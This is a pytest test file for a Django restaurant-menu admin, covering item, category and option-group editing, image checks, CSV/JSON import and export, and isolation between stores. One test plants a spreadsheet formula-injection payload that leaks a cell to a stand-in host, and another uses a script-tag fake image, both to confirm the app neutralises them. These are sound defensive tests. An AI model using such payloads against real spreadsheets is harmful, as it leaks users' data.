"""The menu admin: every change goes through menus.services and tells the tablets
(`menu.updated`); images are checked; the whole menu goes in and out as a file."""

import io
import json

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from accounts.models import User
from conftest import make_option_group
from menus.images import MAX_IMAGE_BYTES
from menus.models import Category, ItemOptionGroup, MenuItem, Option, OptionGroup
from orders.models import EventType, OrderEvent, OrderLine
from orders.services import place_order


@pytest.fixture
def manager_client(client, manager):
    client.force_login(manager)
    return client


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _menu_updates(store):
    return OrderEvent.objects.filter(store=store, type=EventType.MENU_UPDATED).count()


def _png(name="dish.png"):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, "PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


def _item_form(category, **fields):
    return {
        "category": str(category.pk),
        "name": "비빔밥",
        "price": "11000",
        "description": "",
        "image_url": "",
        "is_available": "on",
        **_inline("group_links", []),
        **fields,
    }


def test_adding_an_item_stores_its_image_and_tells_the_tablets(manager_client, store, menu):
    response = manager_client.post(reverse("admin:menus_menuitem_add"), _item_form(menu[0].category, image=_png()))

    assert response.status_code == 302
    item = MenuItem.objects.get(name="비빔밥")
    assert item.store == store
    assert item.display_order == max(other.display_order for other in menu) + 1
    assert item.image.name.endswith(".png")
    assert default_storage.exists(item.image.name)
    assert _menu_updates(store) == 1
    page = manager_client.get(reverse("admin:menus_menuitem_changelist")).content.decode()
    # The list shows the image's smallest display size (an 8 px picture has just one).
    assert f'<img src="{item.image.storage.url(item.image_sizes["8"])}"' in page


def test_a_file_that_is_not_an_image_is_refused(manager_client, menu):
    fake = SimpleUploadedFile("dish.png", b"<script>alert(1)</script>", content_type="image/png")

    response = manager_client.post(reverse("admin:menus_menuitem_add"), _item_form(menu[0].category, image=fake))

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["image"]
    assert not MenuItem.objects.filter(name="비빔밥").exists()


def test_an_image_over_5_mb_is_refused(manager_client, menu):
    image = _png()
    big = SimpleUploadedFile("big.png", image.read() + b"\0" * MAX_IMAGE_BYTES, content_type="image/png")

    response = manager_client.post(reverse("admin:menus_menuitem_add"), _item_form(menu[0].category, image=big))

    assert response.status_code == 200
    assert "larger than 5 MB" in str(response.context["adminform"].form.errors["image"])


def test_a_price_out_of_range_is_a_form_error(manager_client, menu):
    response = manager_client.post(reverse("admin:menus_menuitem_add"), _item_form(menu[0].category, price="0"))

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["price"]


def test_list_editing_price_and_sold_out_tells_the_tablets(manager_client, store, menu):
    item = menu[0]
    form = {
        "form-TOTAL_FORMS": "1",
        "form-INITIAL_FORMS": "1",
        "form-0-id": str(item.pk),
        "form-0-price": "9500",
        "_save": "Save",
    }

    response = manager_client.post(reverse("admin:menus_menuitem_changelist"), form)

    assert response.status_code == 302
    item.refresh_from_db()
    assert item.price == 9500
    assert not item.is_available
    assert _menu_updates(store) == 1


def test_dragging_reorders_within_the_store_and_tells_the_tablets(manager_client, store, menu):
    url = reverse("admin:menus_menuitem_sortable_update")
    moves = [[menu[2].pk, 0], [menu[0].pk, 1], [menu[1].pk, 2]]

    response = manager_client.post(url, json.dumps({"updatedItems": moves}), content_type="application/json")

    assert response.status_code == 200
    names = list(MenuItem.objects.filter(store=store).values_list("name", flat=True))
    assert names == ["공기밥", "김치찌개", "된장찌개"]
    assert _menu_updates(store) == 1, "one drag, one announcement"


def test_a_drag_across_categories_is_refused_and_changes_nothing(manager_client, store, menu):
    drinks = Category.objects.create(store=store, name="음료", display_order=2)
    cola = MenuItem.objects.create(store=store, category=drinks, name="콜라", price=2000, display_order=0)
    url = reverse("admin:menus_menuitem_sortable_update")

    response = manager_client.post(
        url, json.dumps({"updatedItems": [[cola.pk, 5], [menu[0].pk, 6]]}), content_type="application/json"
    )

    assert response.status_code == 400
    assert "one category" in response.content.decode()
    assert [item.display_order for item in MenuItem.objects.order_by("id")] == [0, 1, 2, 0]
    assert _menu_updates(store) == 0


def test_the_item_list_groups_items_by_category_and_offers_dragging_within_one(manager_client, store, menu):
    drinks = Category.objects.create(store=store, name="음료", display_order=0)
    MenuItem.objects.create(store=store, category=drinks, name="콜라", price=2000, display_order=9)
    url = reverse("admin:menus_menuitem_changelist")

    every = manager_client.get(url)
    one = manager_client.get(url, {"category__id__exact": menu[0].category_id})
    searched = manager_client.get(url, {"category__id__exact": menu[0].category_id, "q": "찌개"})
    by_price = manager_client.get(url, {"category__id__exact": menu[0].category_id, "o": "5"})

    assert [item.name for item in every.context["cl"].result_list] == ["콜라", "김치찌개", "된장찌개", "공기밥"]
    assert 'class="drag handle"' not in every.content.decode()
    hint = every.content.decode().split('id="reorder-hint"')[1].split("</p>")[0]
    assert f"?category__id__exact={drinks.pk}" in hint and f"?category__id__exact={menu[0].category_id}" in hint
    assert [item.name for item in one.context["cl"].result_list] == ["김치찌개", "된장찌개", "공기밥"]
    assert one.content.decode().count('class="drag handle"') == 3
    assert 'id="reorder-hint"' not in one.content.decode()
    assert 'class="drag handle"' not in searched.content.decode()
    assert 'class="drag handle"' not in by_price.content.decode()


def test_deleting_an_item_keeps_past_orders(manager_client, store, table, menu):
    order = place_order(table=table, items=[{"menu_item_id": menu[0].id, "quantity": 2}])[0]

    response = manager_client.post(reverse("admin:menus_menuitem_delete", args=[menu[0].pk]), {"post": "yes"})

    assert response.status_code == 302
    assert not MenuItem.objects.filter(pk=menu[0].pk).exists()
    line = OrderLine.objects.get(order=order)
    assert (line.menu_item, line.name, line.unit_price, line.quantity) == (None, "김치찌개", 9000, 2)
    assert _menu_updates(store) == 1


def test_a_category_with_items_is_not_deleted(manager_client, menu):
    category = menu[0].category

    manager_client.post(reverse("admin:menus_category_delete", args=[category.pk]), {"post": "yes"})

    assert Category.objects.filter(pk=category.pk).exists()


def test_a_new_category_goes_last_and_tells_the_tablets(manager_client, store, menu):
    response = manager_client.post(reverse("admin:menus_category_add"), {"name": "음료"})

    assert response.status_code == 302
    assert list(Category.objects.filter(store=store).values_list("name", flat=True)) == ["식사", "음료"]
    assert _menu_updates(store) == 1


def test_a_category_name_is_unique_in_the_store_only(manager_client, menu, other_store):
    Category.objects.create(store=other_store, name="음료")

    assert manager_client.post(reverse("admin:menus_category_add"), {"name": "음료"}).status_code == 302
    again = manager_client.post(reverse("admin:menus_category_add"), {"name": "음료"})
    assert again.status_code == 200


def test_export_then_import_round_trip_through_the_admin(manager_client, store, menu, other_store):
    changelist = manager_client.get(reverse("admin:menus_menuitem_changelist")).content.decode()
    assert reverse("admin:menus_menu_import") in changelist
    assert f"{reverse('admin:menus_menu_export')}?format=csv" in changelist
    exported = manager_client.get(reverse("admin:menus_menu_export"), {"format": "csv"})
    assert exported["Content-Disposition"] == 'attachment; filename="menu-alpha.csv"'
    csv_text = exported.content.decode("utf-8-sig")
    assert "김치찌개" in csv_text
    assert "비빔밥" not in csv_text

    changed = csv_text.replace("김치찌개,9000", "김치찌개,9900") + "음료,사이다,2000,,,true\n"
    upload = SimpleUploadedFile("menu.csv", changed.encode("utf-8-sig"), content_type="text/csv")
    response = manager_client.post(reverse("admin:menus_menu_import"), {"file": upload}, follow=True)

    assert "1 new items, 1 updated" in response.content.decode()
    assert MenuItem.objects.get(store=store, name="김치찌개").price == 9900
    assert MenuItem.objects.get(store=store, name="사이다").category.name == "음료"
    assert not MenuItem.objects.filter(store=other_store, name="사이다").exists()
    assert _menu_updates(store) == 1
    exported_json = manager_client.get(reverse("admin:menus_menu_export"), {"format": "json"})
    names = [item["name"] for category in json.loads(exported_json.content)["categories"] for item in category["items"]]
    assert names == ["김치찌개", "된장찌개", "공기밥", "사이다"]


def test_a_bad_menu_file_changes_nothing_and_names_the_row(manager_client, store, menu):
    text = "category,name,price,description,image_url,is_available\n식사,김치찌개,9900,,,true\n식사,라면,0,,,true\n"
    upload = SimpleUploadedFile("menu.csv", text.encode(), content_type="text/csv")

    response = manager_client.post(reverse("admin:menus_menu_import"), {"file": upload})

    assert response.status_code == 200
    assert "row 2" in response.content.decode()
    assert MenuItem.objects.get(store=store, name="김치찌개").price == 9000


def test_a_platform_admin_chooses_the_store_to_export(client, store, menu, other_store):
    client.force_login(User.objects.create_superuser(username="root", password="root-pass-123"))

    page = client.get(reverse("admin:menus_menu_export"))
    exported = client.get(reverse("admin:menus_menu_export"), {"format": "json", "store_choice": other_store.pk})

    assert page.status_code == 200
    assert 'name="store_choice"' in page.content.decode()
    assert "비빔밥" in exported.content.decode()
    assert "김치찌개" not in exported.content.decode()


def test_a_category_that_gained_items_before_the_delete_is_kept_with_a_message(
    manager_client, store, menu, monkeypatch
):
    category = menu[0].category
    # The confirmation page was shown while the category was empty; items arrived since.
    monkeypatch.setattr("menus.admin.CategoryAdmin.get_deleted_objects", lambda *args: ([], {}, set(), []))

    response = manager_client.post(
        reverse("admin:menus_category_delete", args=[category.pk]), {"post": "yes"}, follow=True
    )

    assert response.status_code == 200
    assert "Move or delete this category&#x27;s items first." in response.content.decode()
    assert Category.objects.filter(pk=category.pk).exists()


# Option groups: made once for the store, with their options, and attached to items


def _inline(prefix, rows, initial=0):
    """Inline formset fields: `rows` are dicts of one form's fields each."""
    data = {
        f"{prefix}-TOTAL_FORMS": str(len(rows)),
        f"{prefix}-INITIAL_FORMS": str(initial),
        f"{prefix}-MIN_NUM_FORMS": "0",
        f"{prefix}-MAX_NUM_FORMS": "1000",
    }
    for index, row in enumerate(rows):
        data.update({f"{prefix}-{index}-{field}": value for field, value in row.items()})
    return data


def _link_row(group=None, item="", display_order="0", **fields):
    """An ItemOptionGroup inline row; on the group's page of a new group, `group` is None."""
    group_id = "" if group is None else str(group.pk)
    return {"id": "", "group": group_id, "item": str(item), "display_order": display_order, **fields}


def _group_form(name="맵기", min_select="1", max_select="1", options=(), items=(), initial=(0, 0)):
    return {
        "name": name,
        "min_select": min_select,
        "max_select": max_select,
        **_inline("options", list(options), initial=initial[0]),
        **_inline("item_links", list(items), initial=initial[1]),
    }


def _option_row(group="", **fields):
    return {"group": str(group), "id": "", "is_available": "on", "display_order": "0", **fields}


def test_a_group_made_once_is_attached_to_two_items_and_priced_on_each(manager_client, store, table, menu):
    stew, soup = menu[0], menu[1]
    options = [_option_row(name="순한맛", price_delta="0"), _option_row(name="매운맛", price_delta="500")]
    items = [_link_row(None, item=stew.pk), _link_row(None, item=soup.pk)]

    response = manager_client.post(reverse("admin:menus_optiongroup_add"), _group_form(options=options, items=items))

    assert response.status_code == 302
    spice = OptionGroup.objects.get()
    assert (spice.store, list(spice.items.order_by("id"))) == (store, [stew, soup])
    assert list(spice.options.values_list("name", "price_delta")) == [("순한맛", 0), ("매운맛", 500)]
    # One announcement each: the group, its options, its items.
    assert _menu_updates(store) == 3
    hot = spice.options.get(name="매운맛")
    for item in (stew, soup):
        line = {"menu_item_id": item.id, "quantity": 1, "option_ids": [hot.id]}
        assert place_order(table=table, items=[line])[0].total == item.price + 500
    page = manager_client.get(reverse("admin:menus_optiongroup_changelist")).content.decode()
    assert "순한맛 · 매운맛 (+₩500)" in page and "김치찌개, 된장찌개" in page


def test_groups_are_attached_on_the_item_page_in_the_items_order(manager_client, store, menu):
    stew = menu[0]
    spice = make_option_group(menu[1], name="맵기", min_select=1, max_select=1)
    extra = make_option_group(menu[1], name="추가", max_select=2)
    url = reverse("admin:menus_menuitem_change", args=[stew.pk])
    form = {
        **_item_form(stew.category, name="김치찌개", price="9000"),
        **_inline("group_links", [_link_row(extra, display_order="2"), _link_row(spice, display_order="1")]),
    }

    response = manager_client.post(url, form)

    assert response.status_code == 302
    assert [link.group for link in stew.group_links.all()] == [spice, extra]
    # One announcement for the item, one for its groups.
    assert _menu_updates(store) == 2
    page = manager_client.get(url).content.decode()
    assert reverse("admin:menus_optiongroup_change", args=[spice.pk]) in page


def test_a_group_that_allows_no_choice_is_a_field_error(manager_client, store, menu):
    response = manager_client.post(reverse("admin:menus_optiongroup_add"), _group_form(min_select="0", max_select="0"))

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["max_select"]
    assert not OptionGroup.objects.exists()
    assert _menu_updates(store) == 0


def test_options_are_edited_on_the_groups_page_through_the_services(manager_client, store, menu):
    group = make_option_group(menu[0], name="추가", max_select=2)
    link = group.item_links.get()
    url = reverse("admin:menus_optiongroup_change", args=[group.pk])
    options = [
        _option_row(group.pk, name="치즈", price_delta="1000"),
        _option_row(group.pk, name="계란", price_delta="500"),
    ]
    items = [{**_link_row(group, item=menu[0].pk), "id": str(link.pk)}]
    form = _group_form("추가", "0", "2", options=options, items=items, initial=(0, 1))

    response = manager_client.post(url, form)

    assert response.status_code == 302
    assert list(group.options.values_list("name", "price_delta")) == [("치즈", 1000), ("계란", 500)]
    assert _menu_updates(store) == 2
    assert "김치찌개" in manager_client.get(url).content.decode()


def test_only_the_managers_own_items_and_groups_can_be_attached(manager_client, store, menu, other_store):
    foreign = other_store.menu_items.get()
    theirs = make_option_group(foreign, name="곱빼기 여부")

    refused = manager_client.post(
        reverse("admin:menus_optiongroup_add"), _group_form("곱빼기", items=[_link_row(None, item=foreign.pk)])
    )
    item_form = {
        **_item_form(menu[0].category, name="김치찌개", price="9000"),
        **_inline("group_links", [_link_row(theirs)]),
    }
    refused_on_item = manager_client.post(reverse("admin:menus_menuitem_change", args=[menu[0].pk]), item_form)
    item_page = manager_client.get(reverse("admin:menus_menuitem_change", args=[menu[0].pk])).content.decode()

    assert refused.status_code == 200
    assert refused.context["inline_admin_formsets"][1].formset.errors[0]["item"]
    assert refused_on_item.status_code == 200
    assert refused_on_item.context["inline_admin_formsets"][0].formset.errors[0]["group"]
    assert "곱빼기 여부" not in item_page
    assert list(OptionGroup.objects.filter(store=store)) == []
    assert list(menu[0].option_groups.all()) == [] and list(theirs.items.all()) == [foreign]
    assert _menu_updates(store) == _menu_updates(other_store) == 0


def test_deleting_option_groups_tells_the_tablets_and_keeps_past_orders(manager_client, store, table, menu):
    group = make_option_group(menu[0], menu[1], name="맵기", min_select=1)
    mild = Option.objects.create(group=group, name="순한맛")
    order = place_order(table=table, items=[{"menu_item_id": menu[0].id, "quantity": 1, "option_ids": [mild.id]}])[0]

    response = manager_client.post(
        reverse("admin:menus_optiongroup_changelist"),
        {"action": "delete_selected", "_selected_action": [str(group.pk)], "post": "yes"},
    )

    assert response.status_code == 302
    assert not OptionGroup.objects.exists() and not Option.objects.exists()
    assert list(menu[1].option_groups.all()) == []
    assert OrderLine.objects.get(order=order).options == [{"id": mild.id, "name": "순한맛", "price_delta": 0}]
    assert _menu_updates(store) == 1


def test_inline_rows_cannot_reach_another_stores_groups_links_or_options(manager_client, store, menu, other_store):
    ours = make_option_group(menu[0], name="맵기")
    theirs = make_option_group(other_store.menu_items.get(), name="곱빼기 여부")
    their_link = theirs.item_links.get()
    their_option = Option.objects.create(group=theirs, name="곱빼기", price_delta=2000)
    item_form = {
        **_item_form(menu[0].category, name="김치찌개", price="9000"),
        **_inline("group_links", [{**_link_row(ours), "id": str(their_link.pk), "DELETE": "on"}], initial=1),
    }
    options = [{**_option_row(ours.pk, name="가로챔", price_delta="1"), "id": str(their_option.pk)}]
    group_form = _group_form("맵기", "0", options=options, initial=(1, 0))

    manager_client.post(reverse("admin:menus_menuitem_change", args=[menu[0].pk]), item_form)
    manager_client.post(reverse("admin:menus_optiongroup_change", args=[ours.pk]), group_form)

    theirs.refresh_from_db()
    their_option.refresh_from_db()
    assert ItemOptionGroup.objects.filter(pk=their_link.pk).exists()
    assert (theirs.store, theirs.name) == (other_store, "곱빼기 여부")
    assert (their_option.group_id, their_option.name, their_option.price_delta) == (theirs.pk, "곱빼기", 2000)
    assert _menu_updates(other_store) == 0


def test_the_admin_csv_export_is_inert_and_imports_back(manager_client, store, menu):
    hostile = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    MenuItem.objects.filter(store=store, name="김치찌개").update(name=hostile, description="-반값-")
    exported = manager_client.get(reverse("admin:menus_menu_export"), {"format": "csv"}).content.decode("utf-8-sig")
    assert '\n식사,"\'=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",9000,\'-반값-,' in exported

    upload = SimpleUploadedFile("menu.csv", exported.encode("utf-8-sig"), content_type="text/csv")
    response = manager_client.post(reverse("admin:menus_menu_import"), {"file": upload}, follow=True)
    assert "0 new items, 0 updated" in response.content.decode()
    assert MenuItem.objects.get(store=store, name=hostile).description == "-반값-"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("menu.csv", "category,name,price,description,image_url,is_available\n식사,라\x00면,3000,,,true\n".encode()),
        ("menu.json", b'{"categories": [{"name": "\\u0000", "items": [{"name": "a", "price": 1}]}]}'),
        ("menu.json", b'{"categories": [{"name": "x", "items": [{"name": "\\ud800", "price": 1}]}]}'),
    ],
)
def test_a_nul_or_lone_surrogate_in_an_admin_import_is_a_form_error(manager_client, store, menu, name, content):
    before = list(MenuItem.objects.values_list("name", "price"))
    upload = SimpleUploadedFile(name, content)
    response = manager_client.post(reverse("admin:menus_menu_import"), {"file": upload})
    assert response.status_code == 200
    assert "not allowed (NUL or a lone surrogate)" in response.content.decode()
    assert list(MenuItem.objects.values_list("name", "price")) == before
